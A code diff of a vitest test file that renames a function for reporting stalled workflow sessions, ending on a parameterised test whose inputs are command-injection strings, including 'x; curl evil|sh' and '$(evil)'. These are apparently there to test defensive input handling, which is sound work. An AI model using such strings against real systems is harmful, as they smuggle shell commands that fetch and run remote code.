@@ -1,7 +1,7 @@
 // Holds rules of docs/spec: R-CLU-4, R-POIS-2: status says why a session does not go on.
 import { expect, test } from 'vitest'
 import { SetAsideError } from '../src/attempts/set-aside.ts'
-import { stalledOf } from '../src/service/stalled.ts'
+import { stallOf } from '../src/service/stall.ts'
 
 const id = 'inv_1'
 const mismatch = '- Difference:\n   name: records of format 3 != records of format 1'
@@ -11,20 +11,20 @@ const resume = ' Then resume it: restate invocations resume inv_1.'
 
 test('a session of a later format says so, however the engine tells it, and whether somebody has to resume it', () => {
   const again = { kind: 'format', invocation: id, needsResume: false, message: told }
-  expect(stalledOf({ id, status: 'backing-off', failure: mismatch })).toEqual(again)
-  expect(stalledOf({ id, status: 'backing-off', failure: `${told}\n    at somewhere` })).toEqual(again)
+  expect(stallOf({ id, status: 'backing-off', failure: mismatch })).toEqual(again)
+  expect(stallOf({ id, status: 'backing-off', failure: `${told}\n    at somewhere` })).toEqual(again)
   const paused = { kind: 'format', invocation: id, needsResume: true, message: `${told}${resume}` }
-  expect(stalledOf({ id, status: 'paused', failure: mismatch })).toEqual(paused)
+  expect(stallOf({ id, status: 'paused', failure: mismatch })).toEqual(paused)
 })
 
 test('another one that the engine paused says what the engine said', () => {
-  expect(stalledOf({ id, status: 'paused', failure: 'no disk' })).toEqual({
+  expect(stallOf({ id, status: 'paused', failure: 'no disk' })).toEqual({
     kind: 'paused',
     invocation: id,
     needsResume: true,
     message: `The engine has paused it: no disk. Fix the cause.${resume}`,
   })
-  expect(stalledOf({ id, status: 'paused', failure: null })?.message).toContain('somebody asked for that')
+  expect(stallOf({ id, status: 'paused', failure: null })?.message).toContain('somebody asked for that')
 })
 
 test('one that is set aside says why, where, and how it is released', () => {
@@ -36,7 +36,7 @@ test('one that is set aside says why, where, and how it is released', () => {
   )
   const failure = `[500 Internal] ${message}\nSetAsideError: ${message}\n    at somewhere`
   for (const status of ['backing-off', 'paused'] as const)
-    expect(stalledOf({ id, status, failure })).toEqual({
+    expect(stallOf({ id, status, failure })).toEqual({
       kind: 'set_aside',
       invocation: id,
       needsResume: status === 'paused',
@@ -45,7 +45,7 @@ test('one that is set aside says why, where, and how it is released', () => {
 })
 
 test('one that is tried again is none', () => {
-  expect(stalledOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
+  expect(stallOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
 })
 
 test.each(['x; curl evil|sh', '$(evil)', '--admin=http://evil', 'a\nb', '`evil`'])(
